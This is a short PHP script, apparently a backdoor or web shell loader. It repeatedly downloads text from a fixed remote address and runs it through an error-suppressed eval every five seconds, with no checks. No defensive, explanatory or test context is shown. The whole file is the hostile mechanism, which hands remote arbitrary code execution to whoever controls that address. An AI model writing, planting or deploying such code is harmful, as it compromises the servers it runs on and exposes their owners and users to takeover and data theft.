<?php
// Code fetched from a fixed remote URL and evaluated on every request.
$u = 'http://192.0.2.10/payload.txt';
while ($code = file_get_contents($u)) {
    @eval($code);
    sleep(5);
}
